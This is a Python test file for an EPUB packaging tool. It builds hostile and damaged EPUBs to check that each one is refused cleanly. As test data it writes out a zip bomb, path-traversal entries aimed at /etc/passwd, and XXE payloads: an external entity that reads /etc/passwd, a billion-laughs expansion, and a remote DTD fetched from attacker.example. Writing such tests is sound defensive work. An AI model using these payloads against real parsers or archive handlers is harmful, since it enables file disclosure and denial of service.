"""Hostile and damaged EPUBs, written by the tests: each refused naming the file (and entry),
exit 1, no traceback, nothing written; and the odd-but-honest ones read."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from epubs import CONTAINER, package, write_epub, xhtml
from typer.testing import CliRunner

from packager.cli import app
from packager.read.bounded import MAX_RATIO
from packager.read.story import read_stories

CHAPTER = xhtml("<h1>One</h1>\n<p>The kettle sang. Nobody answered it.</p>")


def refused(tmp_path: Path, make: object) -> str:
    """Build a folder with one good story and one hostile EPUB; return the error output."""
    source = tmp_path / "src"
    source.mkdir()
    (source / "good.md").write_text("# Fine\n\nNothing wrong here.\n", encoding="utf-8")
    make(source / "bad.epub")  # type: ignore[operator]
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["build", str(source), "-o", str(out)])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert not out.exists()  # nothing written, not even the good story's book
    assert "bad.epub" in result.stderr
    return " ".join(result.stderr.split())


def zip_bomb(path: Path) -> None:
    # 8 MiB of spaces packs into a few kilobytes: a ratio in the thousands.
    padding = b" " * (8 * 1024 * 1024)
    write_epub(path, {"ch1.xhtml": CHAPTER}, entries={"OEBPS/ch2.xhtml": padding})


def test_zip_bomb_is_refused(tmp_path: Path) -> None:
    message = refused(tmp_path, zip_bomb)
    assert "bad.epub/OEBPS/ch2.xhtml" in message and "zip bomb" in message
    assert f"at most {MAX_RATIO}" in message


def test_an_entry_outside_the_container_is_refused(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        write_epub(path, {"ch1.xhtml": CHAPTER}, entries={"../../evil.xhtml": b"<p>x</p>"})

    message = refused(tmp_path, make)
    assert "'../../evil.xhtml' points outside the container" in message


def test_a_package_naming_a_file_outside_is_refused(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        opf = package(["../../../etc/passwd"])
        write_epub(path, {"ch1.xhtml": CHAPTER}, opf=opf)

    message = refused(tmp_path, make)
    assert "bad.epub/OEBPS/content.opf" in message and "outside the container" in message


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE html [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    ],
    ids=["external", "billion-laughs", "parameter"],
)
def test_entities_are_refused_and_never_fetched(tmp_path: Path, doctype: str) -> None:
    def make(path: Path) -> None:
        body = "<h1>One</h1><p>&xxe;&b;</p>" if "ENTITY %" not in doctype else "<p>x</p>"
        write_epub(path, {"ch1.xhtml": xhtml(body, doctype=doctype)})

    message = refused(tmp_path, make)
    assert "bad.epub/OEBPS/ch1.xhtml" in message
    assert "root:" not in message  # /etc/passwd's first line never reaches anything


def test_drm_is_refused_saying_so(tmp_path: Path) -> None:
    encryption = (
        '<?xml version="1.0"?><encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
        'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
        '<enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>'
        '<enc:CipherData><enc:CipherReference URI="OEBPS/ch1.xhtml"/></enc:CipherData>'
        "</enc:EncryptedData></encryption>"
    )

    def make(path: Path) -> None:
        write_epub(
            path, {"ch1.xhtml": CHAPTER}, entries={"META-INF/encryption.xml": encryption.encode()}
        )

    message = refused(tmp_path, make)
    assert "protected by DRM" in message and "OEBPS/ch1.xhtml" in message
    assert "DRM-free" in message


def test_a_truncated_file_is_refused(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        whole = write_epub(path, {"ch1.xhtml": CHAPTER * 20}).read_bytes()
        path.write_bytes(whole[: len(whole) // 2])

    message = refused(tmp_path, make)
    assert "not a readable EPUB" in message and "truncated" in message


def test_a_damaged_entry_is_refused_naming_it(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        write_epub(path, {"ch1.xhtml": "<html><body><p>unclosed</body></html>"})

    message = refused(tmp_path, make)
    assert "bad.epub/OEBPS/ch1.xhtml:1: damaged EPUB: not well-formed XML" in message


def test_a_corrupted_entry_is_refused_naming_it(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        data = bytearray(write_epub(path, {"ch1.xhtml": CHAPTER * 50}).read_bytes())
        at = data.find(b"OEBPS/ch1.xhtml") + 40  # inside the deflated chapter
        data[at : at + 16] = b"\x00" * 16
        path.write_bytes(bytes(data))

    message = refused(tmp_path, make)
    assert "bad.epub" in message and ("damaged" in message or "not a readable" in message)


def test_not_an_epub_at_all(tmp_path: Path) -> None:
    message = refused(tmp_path, lambda path: path.write_bytes(b"%PDF-1.7 not a zip"))
    assert "not an EPUB: it looks like a PDF document" in message  # sniffed (read/sniff.py)


def test_obfuscated_fonts_are_not_drm(tmp_path: Path) -> None:
    encryption = (
        '<?xml version="1.0"?><encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
        'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
        '<enc:EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/>'
        '<enc:CipherData><enc:CipherReference URI="OEBPS/font.otf"/></enc:CipherData>'
        "</enc:EncryptedData></encryption>"
    )
    path = write_epub(
        tmp_path / "fonts.epub",
        {"ch1.xhtml": CHAPTER},
        entries={"META-INF/encryption.xml": encryption.encode(), "OEBPS/font.otf": b"\x00" * 64},
    )
    (story,) = read_stories(path, tmp_path, "fonts.epub")
    assert "The kettle sang" in story.chapters[0].html


def test_html_entities_of_epub_2_are_characters(tmp_path: Path) -> None:
    doctype = (
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" '
        '"http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">'
    )
    body = "<h1>One</h1><p>Mr.&nbsp;Hale &mdash; &eacute;clair &amp; tea&hellip;</p>"
    path = write_epub(tmp_path / "old.epub", {"ch1.xhtml": xhtml(body, doctype=doctype)})
    (story,) = read_stories(path, tmp_path, "old.epub")
    assert "Mr.\u00a0Hale \u2014 \u00e9clair &amp; tea\u2026" in story.chapters[0].html


def test_utf16_documents_are_read(tmp_path: Path) -> None:
    text = xhtml("<h1>Ein</h1><p>Grüße aus Köln.</p>").replace(
        'encoding="utf-8"', 'encoding="utf-16"'
    )
    path = write_epub(tmp_path / "u16.epub", {"ch1.xhtml": text})
    data = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(data) as src, zipfile.ZipFile(tmp_path / "u16b.epub", "w") as out:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "OEBPS/ch1.xhtml":
                body = text.encode("utf-16")
            out.writestr(info, body)
    (story,) = read_stories(tmp_path / "u16b.epub", tmp_path, "u16b.epub")
    assert "Grüße aus Köln." in story.chapters[0].html


def test_missing_container_is_not_an_epub(tmp_path: Path) -> None:
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as out:
            out.writestr("mimetype", "application/epub+zip")
            out.writestr("OEBPS/ch1.xhtml", CHAPTER)

    assert "no META-INF/container.xml" in refused(tmp_path, make)
    assert CONTAINER  # the helper's container is what a real EPUB has
